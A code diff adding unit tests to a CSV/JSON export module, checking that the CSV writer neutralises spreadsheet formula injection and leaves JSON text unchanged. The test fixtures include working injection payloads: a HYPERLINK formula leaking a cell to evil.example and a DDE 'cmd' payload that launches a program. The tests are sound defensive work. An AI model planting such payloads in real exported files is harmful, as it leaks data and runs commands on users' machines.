@@ -18,14 +18,37 @@ describe('toCsv', () => {
     ]);
     expect(csv).toBe('\uFEFFcode,text,value,flag\r\n032069,"カンマ,と""引用符""",3096,true\r\n032069,"一行目\n二行目",,false\r\n');
   });
+  it('writes a table without rows as its header line alone', () => {
+    expect(toCsv(columns, [])).toBe('\uFEFFcode,text,value,flag\r\n');
+  });
   it('writes blanks as empty cells, never 0, and numbers without grouping', () => {
     expect([cellText(null), cellText(0), cellText(61.9), cellText(5600)]).toEqual(['', '0', '61.9', '5600']);
+  });
+
+  it('writes no text cell that a spreadsheet runs as a formula, and negative numbers as numbers', () => {
+    const csv = toCsv(columns, [
+      { code: '032069', text: '=HYPERLINK("https://evil.example/?"&A2,"詳細")', value: -3, flag: true },
+      { code: '032069', text: "-2+3+cmd|' /C calc'!A0", value: -0.5, flag: false },
+      { code: '032069', text: '  =1+1', value: null, flag: false },
+      { code: '032069', text: '\t@SUM(1+1)', value: 0, flag: false },
+      { code: '032069', text: '+81-197', value: 1, flag: false },
+    ]);
+    expect(csv.split('\r\n').slice(1, -1)).toEqual([
+      `032069,"'=HYPERLINK(""https://evil.example/?""&A2,""詳細"")",-3,true`,
+      `032069,'-2+3+cmd|' /C calc'!A0,-0.5,false`,
+      `032069,'  =1+1,,false`,
+      `032069,'\t@SUM(1+1),0,false`,
+      `032069,'+81-197,1,false`,
+    ]);
   });
 });
 
 describe('toJson', () => {
   it('keeps codes as strings and blanks as null', () => {
     expect(JSON.parse(toJson(columns, [{ code: '032069', text: null, value: null, flag: true }]))).toEqual([{ code: '032069', text: null, value: null, flag: true }]);
+  });
+  it('keeps text exactly, even text that would be a formula in a spreadsheet', () => {
+    expect(JSON.parse(toJson(columns, [{ code: '032069', text: '=1+1', value: -3, flag: true }]))).toEqual([{ code: '032069', text: '=1+1', value: -3, flag: true }]);
   });
 });
 
